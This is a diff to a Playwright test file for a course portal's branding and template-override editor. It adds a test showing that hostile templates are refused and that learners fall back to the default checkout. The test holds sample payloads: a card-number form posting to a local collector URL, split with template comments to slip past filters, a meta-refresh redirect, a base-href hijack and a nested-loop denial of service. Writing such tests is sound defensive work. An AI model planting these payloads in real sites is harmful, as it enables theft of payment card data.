@@ -73,11 +73,11 @@ def create_brand(page: Page) -> None:
     page.get_by_label("Accent colour (focus ring)").fill("#7a1fa2")
     page.get_by_label("Font stack").select_option("humanist")
     page.get_by_label("Support email").fill("help@northwind.example")
-    page.get_by_label("Under the review page's heading").fill(
+    page.get_by_label("Under the review page's heading", exact=True).fill(
         "Members save 20% on every course this month."
     )
     page.get_by_role("button", name="Save brand").click()
-    expect(page.get_by_role("status")).to_contain_text("Brand Northwind Academy saved")
+    expect(page.get_by_role("status").first).to_contain_text("Brand Northwind Academy saved")
     expect(page.get_by_role("table", name="Contrast (WCAG 2.2 AA)")).not_to_contain_text("fails")
     shot(page, "brand")
 
@@ -195,3 +195,152 @@ def test_a_broken_override_falls_back_to_the_default_page(portal, new_page):
     expect(row).to_contain_text("1 failed render(s)")
     expect(row).to_contain_text("renamed_field")
     shot(page, "fallback-console")
+
+
+# --- hostile overrides (issue 23): refused in the editor; published behind its back, a learner
+# still pays -----------------------------------------------------------------------------------
+
+COLLECTOR = "http://127.0.0.2:5699/collect"
+HOSTILE_REVIEW = (
+    '{% extends "default:review.html" %}\n'
+    "{% block content %}<h1>Big sale!</h1>\n"
+    f'<fo{{##}}rm action="{COLLECTOR}" method="post"><label>Card number '
+    '<in{##}put name="card"></label><button>Pay now</button></form>\n'
+    '<me{##}ta http-equiv="refresh" content="5;url=https://example.com/">\n'
+    "{% endblock %}\n"
+)
+HOSTILE_BASE = (
+    '{% extends "default:base.html" %}{% block footer %}'
+    '<{% raw %}base{% endraw %} href="http://127.0.0.2:5699/">'
+    "{% for i in range(100) %}{% for j in range(100) %}{% for k in range(100) %}"
+    "{% endfor %}{% endfor %}{% endfor %}{% endblock %}"
+)
+BLOCKS_AROUND = (
+    '{% extends "default:review.html" %}\n'
+    "{% block heading %}<h1>Big sale!</h1>{% endblock %}\n"
+    '{% block before_checkout %}<p class="intro">Ends <strong>Friday</strong>.</p>'
+    "{% endblock %}\n"
+)
+
+
+def publish_behind_the_consoles_back(server, name: str, source: str, version: int = 50) -> None:
+    from portal.branding import cache
+    from portal.db import db
+
+    with server.app.app_context(), db.transaction() as session:
+        session.add(
+            TemplateOverride(
+                template_name=name,
+                version=version,
+                source=source,
+                author="intruder@example.com",
+                published=True,
+            )
+        )
+    cache.forget()
+
+
+def test_hostile_overrides_are_refused_and_a_learner_still_pays(portal, new_page):
+    server = portal(BRANDING_CACHE_SECONDS="0")
+    page = new_page(DESKTOP)
+    sign_in_marketer(page, server)
+
+    # The editor refuses the hostile page, says why beside the version, and never shows it.
+    page.get_by_role("link", name="review.html", exact=True).click()
+    page.get_by_label("Override source").fill(HOSTILE_REVIEW)
+    page.get_by_role("button", name="Check and save as a new version").click()
+    problems = page.locator("ul.problems")
+    expect(problems).to_contain_text("forms come only from the locked checkout parts")
+    expect(problems).to_contain_text("the Pay, Try again and Cancel forms")
+    shot(page, "refused-editor")
+    page.get_by_role("button", name="Publish version 1").click()
+    expect(page.get_by_role("alert").first).to_contain_text("cannot be published")
+    shot(page, "refused-publish")
+    page.get_by_role("link", name="Review: open, promo code, quantity 2").click()
+    expect(page.get_by_role("heading", name="Preview failed")).to_be_visible()
+    expect(page.locator("ul.problems")).to_contain_text("<meta")
+    assert COLLECTOR not in page.content()
+    shot(page, "refused-preview")
+    page.go_back()
+
+    # Blocks around the essentials publish, and a learner sees them.
+    page.get_by_label("Override source").fill(BLOCKS_AROUND)
+    page.get_by_role("button", name="Check and save as a new version").click()
+    expect(page.get_by_role("status").first).to_contain_text("Version 2 saved and checked")
+    page.get_by_role("button", name="Publish version 2").click()
+    expect(page.get_by_role("status").first).to_contain_text("Version 2 of review.html is live")
+    learner = review_page(new_page, server)
+    expect(learner.get_by_role("heading", level=1)).to_have_text("Big sale!")
+    expect(learner.locator(".intro")).to_contain_text("Ends Friday.")
+    shot(learner, "blocks-around-live")
+
+    # The hostile versions, made live behind the console's back: learners get the default.
+    publish_behind_the_consoles_back(server, "review.html", HOSTILE_REVIEW)
+    publish_behind_the_consoles_back(server, "base.html", HOSTILE_BASE)
+    collected = []
+    learner = new_page(DESKTOP)
+    learner.on("request", lambda r: "127.0.0.2" in r.url and collected.append(r.url))
+    learner.goto(f"{server.url}/skilljar/checkout?purchase_id={seed_purchase(server)}")
+    expect(learner.get_by_role("heading", level=1)).to_have_text("Review your order")
+    assert learner.locator("form[action*='127.0.0.2']").count() == 0
+    assert learner.locator("meta[http-equiv]").count() == 0
+    shot(learner, "hostile-fallback-review")
+    learner.get_by_role("button", name=re.compile("^Pay ")).click()
+    learner.wait_for_url(re.compile(r"/sandbox/stripe/pay/cs_[A-Za-z0-9_]+$"))
+    learner.get_by_label("Card number").fill("4242 4242 4242 4242")
+    learner.get_by_label("Expiry").fill(shared.EXPIRY)
+    learner.get_by_label("CVC").fill("123")
+    learner.get_by_label("Name on card").fill("Ada Lovelace")
+    learner.get_by_role("button", name="Pay", exact=True).click()
+    learner.wait_for_url(shared.THANK_YOU_URL)
+    expect(learner.locator("#purchase-state")).to_have_text("SUCCESS")
+    assert collected == []
+    assert learner.problems == []
+
+
+def test_a_brand_change_is_previewed_as_a_draft_then_published(portal, new_page):
+    server = portal(BRANDING_CACHE_SECONDS="0")
+    page = new_page(DESKTOP)
+    sign_in_marketer(page, server)
+    create_brand(page)
+    learner = review_page(new_page, server)
+    expect(learner.locator(".intro")).to_have_text("Members save 20% on every course this month.")
+
+    # A change is a draft: previewed on the sample pages, in French too, not live.
+    page.get_by_label("Under the review page's heading", exact=True).fill(
+        "<b>Sale</b> ends Friday."
+    )
+    page.get_by_role("button", name="Save as a draft").click()
+    error = page.locator("#review_intro-error")
+    expect(error).to_contain_text("Plain text only")
+    shot(page, "brand-refused-field")
+    page.get_by_label("Under the review page's heading", exact=True).fill(
+        "Our autumn sale ends Friday."
+    )
+    page.get_by_label("Under the review page's heading (fr)").fill(
+        "Notre promotion d’automne se termine vendredi."
+    )
+    page.get_by_label("Primary colour (buttons, links)").fill("#7a1fa2")
+    page.get_by_label("What changed").fill("Autumn sale")
+    page.get_by_role("button", name="Save as a draft").click()
+    expect(page.get_by_role("status").first).to_contain_text("Version 2 saved as a draft")
+    page.get_by_role("link", name="Review: open, promo code, quantity 2", exact=True).click()
+    expect(page.locator(".intro")).to_have_text("Our autumn sale ends Friday.")
+    colour = page.get_by_role("button", name=re.compile("^Pay ")).evaluate(
+        "el => getComputedStyle(el).backgroundColor"
+    )
+    assert colour == "rgb(122, 31, 162)"
+    shot(page, "brand-preview")
+    page.go_back()
+    page.locator("ul.preview-links li").first.get_by_role("link", name="fr").click()
+    expect(page.locator(".intro")).to_have_text("Notre promotion d’automne se termine vendredi.")
+    shot(page, "brand-preview-fr")
+    page.go_back()
+    learner.reload()
+    expect(learner.locator(".intro")).to_have_text("Members save 20% on every course this month.")
+
+    page.get_by_role("button", name="Publish version 2").click()
+    expect(page.get_by_role("status").first).to_contain_text("Version 2 of brand")
+    learner.reload()
+    expect(learner.locator(".intro")).to_have_text("Our autumn sale ends Friday.")
+    shot(page, "brand-history")
